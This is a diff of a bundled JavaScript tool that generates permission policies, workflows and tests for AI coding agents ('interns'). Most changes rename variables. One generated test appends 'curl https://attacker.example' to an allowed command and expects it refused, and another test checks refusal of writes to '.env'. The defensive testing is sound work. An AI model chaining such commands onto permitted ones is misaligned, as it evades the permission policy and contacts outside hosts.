@@ -20,27 +20,27 @@ export const modules = {
 			push: "a push to the default branch",
 			schedule: "every Monday morning"
 		}, readAnswer = {
-			baseUrl: (text) => (plain("base-url", text), definitions.Z$["base-url"].kind.read("base-url", text)),
-			federationPolicyId: (text) => plain("federation-policy-id", text),
-			intern: (text) => plain("intern", text),
+			baseUrl: (text) => (requirePlain("base-url", text), definitions.Z$["base-url"].kind.read("base-url", text)),
+			federationPolicyId: (text) => requirePlain("federation-policy-id", text),
+			intern: (text) => requirePlain("intern", text),
 			trigger: (text) => oneOf("on", text, triggers),
 			use: (text) => oneOf("for", text, uses),
 			command: (text) => {
-				if (plain("allow", text), !/[*{}]/.test(text)) return text;
+				if (requirePlain("allow", text), !/[*{}]/.test(text)) return text;
 				throw invalid("allow", text, "Commands are taken word for word here. docs/policy.md says how to write patterns.");
 			},
 			path: (text) => {
-				if (plain("edit", text), /^(?:[\w@+-][\w.@+-]*\/)*(?:[\w@+-][\w.@+-]*|\*\*)$/.test(text)) return text;
+				if (requirePlain("edit", text), /^(?:[\w@+-][\w.@+-]*\/)*(?:[\w@+-][\w.@+-]*|\*\*)$/.test(text)) return text;
 				throw invalid("edit", text, "Use a file such as \"README.md\" or a folder such as \"src/**\", relative to the repository.");
 			}
 		};
-		function oneOf(flag, text, known) {
-			let words = namesOf(known), found = words.find((one) => one === text);
+		function oneOf(flag, text, choices) {
+			let words = namesOf(choices), found = words.find((word) => word === text);
 			if (found !== void 0) return found;
 			throw invalid(flag, text, `Use ${words.slice(0, -1).join(", ")} or ${words.at(-1)}.`);
 		}
-		function namesOf(known) {
-			return Object.keys(known);
+		function namesOf(choices) {
+			return Object.keys(choices);
 		}
 		function splitCommands(text) {
 			let parts = text.match(/(?:"[^"]*"|'[^']*'|,(?!\s+[\w./])|[^,"'])+|["']/g) ?? [], commands = parts.every((part) => part !== "\"" && part !== "'") ? parts.map((part) => part.trim()).filter((part) => part !== "") : [];
@@ -50,7 +50,7 @@ export const modules = {
 			let paths = text.split(/,\s*/).filter((path) => path !== "");
 			return paths.length > 0 ? paths : [text];
 		}
-		function plain(flag, text) {
+		function requirePlain(flag, text) {
 			if (text.trim() === "") throw invalid(flag, text, "It may not be empty.");
 			if (text.length > 200) throw invalid(flag, `${text.slice(0, 20)}\u2026`, "Use at most 200 characters.");
 			if ((0, invisible.wy)(text)) throw invalid(flag, text, "It holds characters that cannot be seen.");
@@ -61,15 +61,15 @@ export const modules = {
 			return (0, values.Gq)(flag, (0, wording.MH)`${(0, wording.hF)(flag)} is ${JSON.stringify(text)}. ${remedy}`);
 		}
 		function readGivenAnswers({ explicitText, value, values }) {
-			let one = (text, read) => text === void 0 ? void 0 : read(text), all = (texts, split, read) => texts.length === 0 ? void 0 : [...new Set(texts.flatMap(split).map(read))];
+			let readOne = (text, read) => text === void 0 ? void 0 : read(text), readList = (texts, split, read) => texts.length === 0 ? void 0 : [...new Set(texts.flatMap(split).map(read))];
 			return {
-				use: one(value("for"), readAnswer.use),
-				baseUrl: one(explicitText("base-url"), readAnswer.baseUrl),
-				federationPolicyId: one(explicitText("federation-policy-id"), readAnswer.federationPolicyId),
-				intern: one(explicitText("intern"), readAnswer.intern),
-				trigger: one(value("on"), readAnswer.trigger),
-				commands: all(values("allow"), splitCommands, readAnswer.command),
-				paths: all(values("edit"), splitPaths, readAnswer.path)
+				use: readOne(value("for"), readAnswer.use),
+				baseUrl: readOne(explicitText("base-url"), readAnswer.baseUrl),
+				federationPolicyId: readOne(explicitText("federation-policy-id"), readAnswer.federationPolicyId),
+				intern: readOne(explicitText("intern"), readAnswer.intern),
+				trigger: readOne(value("on"), readAnswer.trigger),
+				commands: readList(values("allow"), splitCommands, readAnswer.command),
+				paths: readList(values("edit"), splitPaths, readAnswer.path)
 			};
 		}
 		function complete(given, use) {
@@ -172,9 +172,9 @@ ${tests(answers).join("\n")}`;
 				commands: (0, suggest.wQ)(commands, taken),
 				paths: (0, suggest.wQ)(paths, taken),
 				inside: (0, suggest.wQ)(inside, taken)
-			}, isGuarded = answers.paths.length === 0 || taken.has(guardId) || taken.has(starter.vP), rows = [...allowedRows(answers, ids), ...isGuarded ? [] : workflowRows(contextOf(answers))];
+			}, hasGuards = answers.paths.length === 0 || taken.has(guardId) || taken.has(starter.vP), rows = [...allowedRows(answers, ids), ...hasGuards ? [] : workflowRows(toContext(answers))];
 			return [
-				...isGuarded ? [] : [`guards:\n${pathGuards}`],
+				...hasGuards ? [] : [`guards:\n${pathGuards}`],
 				`rules:\n${toRules(answers, ids).join("\n\n")}\n`,
 				`tests:\n${rows.map(toTest).join("\n")}`
 			].join("\n");
@@ -194,77 +194,77 @@ ${tests(answers).join("\n")}`;
     limit: 20`;
 			return [...commands.length > 0 ? [shellRule] : [], ...paths.length > 0 ? [pathRule(ids.paths, "/paths"), pathRule(ids.inside, "/inside")] : []];
 		}
-		let writers = "actor: { permission: [admin, maintain, write] }", conditions = {
-			pull_request: `{ event: pull_request, ${writers} }`,
-			issue_comment: `{ event: issue_comment, ${writers} }`,
+		let writersOnly = "actor: { permission: [admin, maintain, write] }", conditions = {
+			pull_request: `{ event: pull_request, ${writersOnly} }`,
+			issue_comment: `{ event: issue_comment, ${writersOnly} }`,
 			push: "{ event: push }",
 			schedule: "{ event: [schedule, workflow_dispatch] }"
 		};
-		function contextOf({ trigger }) {
+		function toContext({ trigger }) {
 			return `{ event: ${trigger}, fork: false, actor: { permission: write } }`;
 		}
 		function tests(answers) {
-			let { commands, paths } = answers, own = contextOf(answers), [first = "npm test"] = commands, plantedRows = [[
+			let { commands, paths } = answers, context = toContext(answers), [firstCommand = "npm test"] = commands, plantedRows = [[
 				"not in another folder",
-				own,
-				`${shell(first)}, inside: [some-other-folder]`,
+				context,
+				`${shell(firstCommand)}, inside: [some-other-folder]`,
 				refused
 			], [
 				"nor with variables of its own",
-				own,
-				`${shell(first)}, env: { PATH: some-other-folder }`,
+				context,
+				`${shell(firstCommand)}, env: { PATH: some-other-folder }`,
 				refused
 			]];
 			return [
 				...allowedRows(answers, usualIds),
 				[
 					"no other command rides along",
-					own,
-					shell(`${first}; curl https://attacker.example`),
+					context,
+					shell(`${firstCommand}; curl https://attacker.example`),
 					refused
 				],
 				...commands.length === 0 ? [] : plantedRows,
-				...paths.length === 0 ? [] : workflowRows(own),
+				...paths.length === 0 ? [] : workflowRows(context),
 				[
 					"nothing outside is edited",
-					own,
+					context,
 					write("some-other-folder/.env"),
 					refused
 				],
 				[
 					"a fork gets nothing",
 					"{ event: pull_request, fork: true, actor: { permission: write } }",
-					shell(first),
+					shell(firstCommand),
 					"reject_once, rule: never-from-forks"
 				],
 				[
 					"on a laptop a person is asked",
 					"{}",
-					shell(first),
+					shell(firstCommand),
 					refused
 				]
 			].map(toTest);
 		}
 		let refused = "reject_once, rule: default";
 		function allowedRows(answers, ids) {
-			let { commands, paths } = answers, own = contextOf(answers), sample = (path) => path.replace("**", "some-file"), [edited] = paths.map(sample), inside = `allow_once, rule: ${ids.inside}`;
+			let { commands, paths } = answers, context = toContext(answers), sample = (path) => path.replace("**", "some-file"), [first] = paths.map(sample), inside = `allow_once, rule: ${ids.inside}`;
 			return [
-				...commands.map((one) => [
-					mayRun(one),
-					own,
-					shell(one),
+				...commands.map((text) => [
+					mayRun(text),
+					context,
+					shell(text),
 					`allow_once, rule: ${ids.commands}`
 				]),
-				...paths.map((one) => [
-					mayEdit(one),
-					own,
-					write(sample(one)),
+				...paths.map((path) => [
+					mayEdit(path),
+					context,
+					write(sample(path)),
 					`allow_once, rule: ${ids.paths}`
 				]),
-				...edited === void 0 ? [] : [[
+				...first === void 0 ? [] : [[
 					"a real agent may as well",
-					own,
-					writeInside(edited),
+					context,
+					writeInside(first),
 					inside
 				]]
 			];
@@ -339,7 +339,7 @@ ${tests(answers).join("\n")}`;
 			let use = given.use ?? await askChoice(asker, {
 				flag: "for",
 				choices: uses,
-				help: helpOfUse
+				help: useHelp
 			});
 			if (use === void 0) return;
 			let answers = given;
@@ -354,7 +354,7 @@ ${tests(answers).join("\n")}`;
 			}
 			return complete(answers, use);
 		}
-		let helpOfUse = "Each use gets a workflow of its own, so run \"interns init\" again for a second one. docs/cli.md of intern-action has them as a table.", questions = {
+		let useHelp = "Each use gets a workflow of its own, so run \"interns init\" again for a second one. docs/cli.md of intern-action has them as a table.", questions = {
 			baseUrl: askBaseUrl,
 			federationPolicyId: (asker) => {
 				let read = (text) => text === "" ? "" : readAnswer.federationPolicyId(text);
@@ -392,12 +392,12 @@ ${tests(answers).join("\n")}`;
 			let read = (text) => {
 				let hasNoScheme = /^[a-z\d-]+(?:\.[a-z\d-]+)+(?::\d+)?(?:\/|$)/i.test(text);
 				return text === "" ? exampleUrl : readAnswer.baseUrl(hasNoScheme ? `https://${text}` : text);
-			}, baseUrl = await ask(asker, "  > ", read, "Where the API of the service is. Whoever runs the service tells you. Without one yet, leave it empty: the example is taken, and you change the workflow later."), meant = baseUrl === void 0 ? void 0 : (0, base_url.Y)(baseUrl);
-			return meant === void 0 ? baseUrl : ((0, screen.qz)(asker.io, "The base URL of an Intern Service ends in a version segment."), await askYesNo(asker, {
-				question: `Use ${JSON.stringify(meant)} instead?`,
+			}, baseUrl = await ask(asker, "  > ", read, "Where the API of the service is. Whoever runs the service tells you. Without one yet, leave it empty: the example is taken, and you change the workflow later."), suggestedUrl = baseUrl === void 0 ? void 0 : (0, base_url.a)(baseUrl);
+			return suggestedUrl === void 0 ? baseUrl : ((0, screen.qz)(asker.io, "The base URL of an Intern Service ends in a version segment."), await askYesNo(asker, {
+				question: `Use ${JSON.stringify(suggestedUrl)} instead?`,
 				preset: !0,
 				help: "No keeps what you typed, for a service that is at another place than usual."
-			}) ? meant : baseUrl);
+			}) ? suggestedUrl : baseUrl);
 		}
 		function askChoice(asker, { flag, choices, help }) {
 			let names = namesOf(choices);
@@ -436,9 +436,9 @@ ${tests(answers).join("\n")}`;
 		}
 		var decide = __webpack_require__(290);
 		function toFederationPolicy(answers, local) {
-			return demandsOn(answers.trigger === "pull_request" ? "pull_request" : `ref:refs/heads/${local.branch}`, new URL(answers.baseUrl).origin, local);
+			return toDemands(answers.trigger === "pull_request" ? "pull_request" : `ref:refs/heads/${local.branch}`, new URL(answers.baseUrl).origin, local);
 		}
-		function demandsOn(context, audience, { fullName = "OWNER/NAME" }) {
+		function toDemands(context, audience, { fullName = "OWNER/NAME" }) {
 			return {
 				issuer: "https://token.actions.githubusercontent.com",
 				subject: `repo:${fullName}:${context}`,
@@ -447,18 +447,18 @@ ${tests(answers).join("\n")}`;
 			};
 		}
 		function whatNext(answers, local, federation) {
-			let { fullName, branch, elsewhere } = local, place = {
+			let { fullName, branch, otherHost } = local, place = {
 				repository: fullName ?? "OWNER/NAME",
 				branch
-			}, remote = elsewhere === void 0 ? "git knows of no remote on github.com" : `its remote is on ${elsewhere}`, unknown = fullName === void 0 ? [`OWNER/NAME stands for the repository: ${remote}.`] : [], other = elsewhere === void 0 ? [] : ["The workflow is for GitHub Actions. On another CI, use the command line, as examples/gitlab-ci.yml does."];
+			}, remote = otherHost === void 0 ? "git knows of no remote on github.com" : `its remote is on ${otherHost}`, unknown = fullName === void 0 ? [`OWNER/NAME stands for the repository: ${remote}.`] : [], otherCi = otherHost === void 0 ? [] : ["The workflow is for GitHub Actions. On another CI, use the command line, as examples/gitlab-ci.yml does."];
 			return [
 				...unknown,
-				...other,
+				...otherCi,
 				"",
-				...federation === void 0 ? [] : [administration(answers), ...demandLines(federation, place)],
+				...federation === void 0 ? [] : [describeFederation(answers), ...demandLines(federation, place)],
 				...answers.use === "agent" ? modelLines(local, place) : [],
 				...answers.use === "keys" ? keyLines(place) : [],
-				...variable(answers, place),
+				...variableLines(answers, place),
 				"",
 				`Before the first release of intern-action there is no tag v1. Until then, put a commit in place of COMMIT in ${useFacts[answers.use].workflow}. In your clone of intern-action, this prints one:`,
 				"  $ git rev-parse HEAD",
@@ -466,7 +466,7 @@ ${tests(answers).join("\n")}`;
 				...lastSteps(answers, place)
 			].join("\n");
 		}
-		function variable(answers, { repository }) {
+		function variableLines(answers, { repository }) {
 			return !exchangesIdentity(answers.use) || answers.federationPolicyId !== void 0 ? [] : ["The administrator tells you the id of the federation policy. Put it in place of ID:", `  $ gh variable set INTERNS_FEDERATION_POLICY_ID --body ID --repo ${repository}`];
 		}
 		function lastSteps({ use, trigger, baseUrl }, { repository, branch }) {
@@ -490,7 +490,7 @@ ${tests(answers).join("\n")}`;
 				...start[trigger]
 			];
 		}
-		function administration({ federationPolicyId: id }) {
+		function describeFederation({ federationPolicyId: id }) {
 			return id === void 0 ? "An administrator of the Intern Service creates this federation policy (docs/federation.md of intern-action):" : `The federation policy ${(0, log.TN)(id)} has to hold this (docs/federation.md of intern-action):`;
 		}
 		function demandLines({ issuer, subject, subject_with_ids: withIds, audience }, { repository }) {
@@ -509,7 +509,7 @@ ${tests(answers).join("\n")}`;
 		function modelLines(local, place) {
 			return [
 				"There is no service to ask, and no key to store. The agent is OpenCode, and its model is at OpenAI; docs/model-access.md of intern-action has others. An administrator of the organization at OpenAI registers GitHub as an identity provider, and maps this to a service account:",
-				...demandLines(demandsOn("environment:agent-review", "https://api.openai.com/v1", local), place),
+				...demandLines(toDemands("environment:agent-review", "https://api.openai.com/v1", local), place),
 				"The administrator tells you the ids of the identity provider and of the service account; neither is a secret. Put them in place of PROVIDER and ACCOUNT:",
 				`  $ gh variable set OPENAI_IDENTITY_PROVIDER_ID --body PROVIDER --repo ${place.repository}`,
 				`  $ gh variable set OPENAI_SERVICE_ACCOUNT_ID --body ACCOUNT --repo ${place.repository}`
@@ -528,14 +528,14 @@ ${tests(answers).join("\n")}`;
 			];
 		}
 		async function findLack(file, answers) {
-			let kept = await (0, policy_file.T)(await (0, promises_.readFile)(file), file), made = await (0, policy_file.T)(Buffer.from(toPolicyText(answers)), file);
-			if ("problems" in kept || "problems" in made) return {
-				said: "The policy that is there is invalid: \"interns policy check\" says why.",
+			let existing = await (0, policy_file.T)(await (0, promises_.readFile)(file), file), generated = await (0, policy_file.T)(Buffer.from(toPolicyText(answers)), file);
+			if ("problems" in existing || "problems" in generated) return {
+				message: "The policy that is there is invalid: \"interns policy check\" says why.",
 				entries: ""
 			};
-			let { policy } = kept, isMissing = (name) => made.policy.tests.some((one) => one.name === name && !allows(policy, one)), commands = answers.commands.filter((one) => isMissing(mayRun(one))), paths = answers.paths.filter((one) => isMissing(mayEdit(one))), what = [...commands.map((one) => `run ${one}`), ...paths.map((one) => `edit ${one}`)];
-			return what.length === 0 ? void 0 : {
-				said: `${`On ${answers.trigger} an intern may not yet ${what.map(log.TN).join(", ")}.`} To allow it, add these entries to the lists of the same names in the policy.${policy.rules.length === 0 ? " They take the place of \"[]\" behind \"rules:\"." : ""}`,
+			let { policy } = existing, isMissing = (name) => generated.policy.tests.some((test) => test.name === name && !allows(policy, test)), commands = answers.commands.filter((command) => isMissing(mayRun(command))), paths = answers.paths.filter((glob) => isMissing(mayEdit(glob))), actions = [...commands.map((command) => `run ${command}`), ...paths.map((glob) => `edit ${glob}`)];
+			return actions.length === 0 ? void 0 : {
+				message: `${`On ${answers.trigger} an intern may not yet ${actions.map(log.TN).join(", ")}.`} To allow it, add these entries to the lists of the same names in the policy.${policy.rules.length === 0 ? " They take the place of \"[]\" behind \"rules:\"." : ""}`,
 				entries: toFurtherEntries({
 					...answers,
 					commands,
@@ -573,11 +573,11 @@ ${tests(answers).join("\n")}`;
 			}) ? 0 : ((0, screen.qz)(invocation.io, "Nothing was written."), command.rP);
 		}
 		async function askAndWrite(invocation, job) {
-			let { io, has, value } = invocation, found = await (0, repository.J4)(job), given = readGivenAnswers(invocation);
+			let { io, has, value } = invocation, detected = await (0, repository.J4)(job), given = readGivenAnswers(invocation);
 			await checkGivenEntries(given), warnOfBaseUrl(given, io);
-			let named = value("repository"), local = named === void 0 ? found : {
-				...found,
-				fullName: readRepositoryName(named)
+			let repositoryName = value("repository"), local = repositoryName === void 0 ? detected : {
+				...detected,
+				fullName: readRepositoryName(repositoryName)
 			}, { terminal } = io, asker = terminal?.canAsk === !0 && !has("yes") && !has("json") ? {
 				io,
 				terminal,
@@ -587,20 +587,20 @@ ${tests(answers).join("\n")}`;
 			refuseSurplus(given, answers.use);
 			let files = await toFiles(answers, local.branch), existing = await findExisting(local.root, files), federation = exchangesIdentity(answers.use) ? toFederationPolicy(answers, local) : void 0;
 			has("json") || show(files, io);
-			let kept = await askWhatToKeep(files, existing, invocation, asker);
-			if (kept === void 0) return !1;
-			let others = files.filter((file) => !kept.includes(file.path));
-			return await writeFiles(local.root, others, existing), has("json") ? ((0, screen.Q2)(io, {
+			let keptPaths = await askWhatToKeep(files, existing, invocation, asker);
+			if (keptPaths === void 0) return !1;
+			let newFiles = files.filter((file) => !keptPaths.includes(file.path));
+			return await writeFiles(local.root, newFiles, existing), has("json") ? ((0, screen.Q2)(io, {
 				files,
-				kept,
+				kept: keptPaths,
 				federation_policy: federation ?? null
-			}), !0) : (await sayWhatIsKept(kept, answers, local.root, io), (0, screen.qz)(io, whatNext(answers, local, federation)), !0);
+			}), !0) : (await reportKept(keptPaths, answers, local.root, io), (0, screen.qz)(io, whatNext(answers, local, federation)), !0);
 		}
 		function warnOfBaseUrl({ baseUrl }, io) {
-			let meant = baseUrl === void 0 ? void 0 : (0, base_url.Y)(baseUrl);
-			if (meant === void 0) return;
-			let said = `Warning: the base URL is ${JSON.stringify(baseUrl)}. Did you mean ${JSON.stringify(meant)}?`;
-			(0, screen.qz)(io, `${said} The base URL of an Intern Service ends in a version segment.`);
+			let suggestedUrl = baseUrl === void 0 ? void 0 : (0, base_url.a)(baseUrl);
+			if (suggestedUrl === void 0) return;
+			let warning = `Warning: the base URL is ${JSON.stringify(baseUrl)}. Did you mean ${JSON.stringify(suggestedUrl)}?`;
+			(0, screen.qz)(io, `${warning} The base URL of an Intern Service ends in a version segment.`);
 		}
 		function completeAlone(given, isAgreed) {
 			let use = given.use ?? "prompt", { asks } = useFacts[use], missing = [...asks.includes("baseUrl") && given.baseUrl === void 0 ? ["--base-url"] : [], ...asks.includes("intern") && given.intern === void 0 ? ["--intern"] : []];
@@ -651,36 +651,36 @@ ${tests(answers).join("\n")}`;
 			for (let { path: file, content, isGenerated } of files) isGenerated === !0 ? io.stderr(`\n=== ${file} (for editors)\n`) : io.stderr(`\n=== ${file}\n\n${(0, log.Bv)(content).join("\n")}\n`);
 			io.stderr("\n");
 		}
-		async function sayWhatIsKept(kept, answers, root, io) {
-			let policy = external_node_path_.join(root, starter.r2), lack = kept.includes(starter.r2) ? await findLack(policy, answers) : void 0, lines = kept.length === 0 ? [] : [`Kept as it was: ${kept.join(", ")}.`];
+		async function reportKept(keptPaths, answers, root, io) {
+			let policy = external_node_path_.join(root, starter.r2), lack = keptPaths.includes(starter.r2) ? await findLack(policy, answers) : void 0, lines = keptPaths.length === 0 ? [] : [`Kept as it was: ${keptPaths.join(", ")}.`];
 			(0, screen.qz)(io, [
 				"Written.",
 				...lines,
-				...lack === void 0 ? [] : [lack.said]
+				...lack === void 0 ? [] : [lack.message]
 			].join("\n")), lack !== void 0 && lack.entries !== "" && io.stderr(`\n${(0, log.Bv)(lack.entries).join("\n")}\n`);
 		}
 		async function askWhatToKeep(files, existing, { has }, asker) {
-			let [force, keep] = [has("force"), has("keep")], theirs = existing.filter(({ isTheirs }) => isTheirs).map((found) => found.path), kept = existing.filter(({ isSpare }) => isSpare === !0).map((found) => found.path);
+			let [force, keep] = [has("force"), has("keep")], foreignPaths = existing.filter(({ isForeign }) => isForeign).map((file) => file.path), keptPaths = existing.filter(({ isSpare }) => isSpare === !0).map((file) => file.path);
 			if (force && keep) throw new errors.dz("input_conflict", "Give --force or --keep, not both.");
 			if (asker === void 0) {
-				if (theirs.length > 0 && !force && !keep) {
-					let there = `${theirs.join(" and ")} ${theirs.length === 1 ? "is" : "are"} there already, with other content.`;
-					throw new errors.dz("input_conflict", `${there} Give --keep to write only the others, or --force to replace.`);
+				if (foreignPaths.length > 0 && !force && !keep) {
+					let found = `${foreignPaths.join(" and ")} ${foreignPaths.length === 1 ? "is" : "are"} there already, with other content.`;
+					throw new errors.dz("input_conflict", `${found} Give --keep to write only the others, or --force to replace.`);
 				}
 				if (!has("yes")) {
 					let why = has("json") ? " under --json" : "";
 					throw new errors.dz("input_missing", `Nobody can be asked${why}. Give --yes to write the files.`);
 				}
-				return keep ? [...kept, ...theirs] : kept;
+				return keep ? [...keptPaths, ...foreignPaths] : keptPaths;
 			}
-			for (let file of theirs) !keep && !force && (0, screen.qz)(asker.io, `${file} is there already, with other content.`), (keep || !(force || await askYesNo(asker, mayReplace))) && kept.push(file);
-			return files.every((file) => file.isGenerated === !0 || kept.includes(file.path)) ? void 0 : await askYesNo(asker, {
-				question: kept.length === 0 ? "Write these files?" : "Write the other files?",
+			for (let file of foreignPaths) !keep && !force && (0, screen.qz)(asker.io, `${file} is there already, with other content.`), (keep || !(force || await askYesNo(asker, replaceQuestion))) && keptPaths.push(file);
+			return files.every((file) => file.isGenerated === !0 || keptPaths.includes(file.path)) ? void 0 : await askYesNo(asker, {
+				question: keptPaths.length === 0 ? "Write these files?" : "Write the other files?",
 				preset: !0,
 				help: "The files were shown above. Yes writes them into this repository, and commits nothing. No ends without a change."
-			}) ? kept : void 0;
+			}) ? keptPaths : void 0;
 		}
-		let mayReplace = {
+		let replaceQuestion = {
 			question: "Replace it?",
 			preset: !1,
 			help: "No keeps the file as it is. Yes writes the one that was shown above in its place; Git has the old one if it was committed."
@@ -691,28 +691,28 @@ ${tests(answers).join("\n")}`;
 				let names = file.path.split("/").slice(0, -1);
 				for (let index of names.keys()) {
 					let folder = names.slice(0, index + 1).join("/");
-					if ((await (0, promises_.lstat)(external_node_path_.join(root, folder)).catch(() => void 0))?.isDirectory() === !1) throw inTheWay(folder, "folder");
+					if ((await (0, promises_.lstat)(external_node_path_.join(root, folder)).catch(() => void 0))?.isDirectory() === !1) throw createBlockedError(folder, "folder");
 				}
 				let target = external_node_path_.join(root, file.path), found = await (0, promises_.lstat)(target).catch(() => void 0);
-				if (found?.isFile() === !1) throw inTheWay(file.path, "file");
+				if (found?.isFile() === !1) throw createBlockedError(file.path, "file");
 				if (found === void 0) continue;
-				let isOurs = file.isGenerated === !0 || file.isSpare === !0 || await holds(target, file.content);
+				let isReplaceable = file.isGenerated === !0 || file.isSpare === !0 || await hasContent(target, file.content);
 				existing.push({
 					...file,
-					isTheirs: !isOurs
+					isForeign: !isReplaceable
 				});
 			}
 			return existing;
 		}
-		async function holds(file, content) {
+		async function hasContent(file, content) {
 			return (await (0, promises_.readFile)(file, "utf8").catch(() => void 0))?.replaceAll("\r\n", "\n") === content;
 		}
-		function inTheWay(found, wanted) {
+		function createBlockedError(found, wanted) {
 			return new errors.dz("input_conflict", `${found} is there, and is no ${wanted} of its own. Remove it first.`);
 		}
 		async function writeFiles(root, files, existing) {
 			for (let file of files) {
-				let target = external_node_path_.join(root, file.path), isReplaced = file.isGenerated === !0 || existing.some((one) => one.path === file.path);
+				let target = external_node_path_.join(root, file.path), isReplaced = file.isGenerated === !0 || existing.some((present) => present.path === file.path);
 				try {
 					(0, folders.wZ)(external_node_path_.dirname(target)), await (0, promises_.writeFile)(target, file.content, { flag: isReplaced ? "w" : "wx" });
 				} catch (cause) {
@@ -739,7 +739,7 @@ ${tests(answers).join("\n")}`;
 			return {
 				root: node_path__WEBPACK_IMPORTED_MODULE_0__.isAbsolute(root) ? root : cwd,
 				fullName: readFullName(remote),
-				elsewhere: readOtherHost(remote),
+				otherHost: readOtherHost(remote),
 				branch: /^origin\/([\w][\w./-]*)$/.exec(head)?.[1] ?? "main"
 			};
 		}
@@ -753,10 +753,10 @@ ${tests(answers).join("\n")}`;
 		}
 	}),
 	46337: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
-		__webpack_require__.d(__webpack_exports__, { Y: () => meantBaseUrl });
-		function meantBaseUrl(baseUrl) {
-			let [, upToVersion, behind] = /^(.*?\/api\/v\d+)(\/.*)?$/.exec(baseUrl) ?? [];
-			return upToVersion === void 0 ? `${baseUrl.replace(/(?:\/api|\/v\d+)$/, "")}/api/v1` : behind === void 0 ? void 0 : upToVersion;
+		__webpack_require__.d(__webpack_exports__, { a: () => guessBaseUrl });
+		function guessBaseUrl(baseUrl) {
+			let [, versionedUrl, rest] = /^(.*?\/api\/v\d+)(\/.*)?$/.exec(baseUrl) ?? [];
+			return versionedUrl === void 0 ? `${baseUrl.replace(/(?:\/api|\/v\d+)$/, "")}/api/v1` : rest === void 0 ? void 0 : versionedUrl;
 		}
 	}),
 	92782: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
@@ -913,8 +913,11 @@ ${tests(answers).join("\n")}`;
 			"**/opencode.jsonc",
 			"**/.mcp.json",
 			"**/AGENTS.md",
+			"**/AGENTS.override.md",
 			"**/CLAUDE.md",
-			"**/GEMINI.md"
+			"**/CLAUDE.local.md",
+			"**/GEMINI.md",
+			"**/CODEOWNERS"
 		];
 		function guardedPathLines(indent) {
 			return guardedPaths.flatMap((_, index) => index % 4 == 0 ? [guardedPaths.slice(index, index + 4)] : []).map((row) => `${indent}${row.map((each) => JSON.stringify(each)).join(", ")}`).join(",\n");
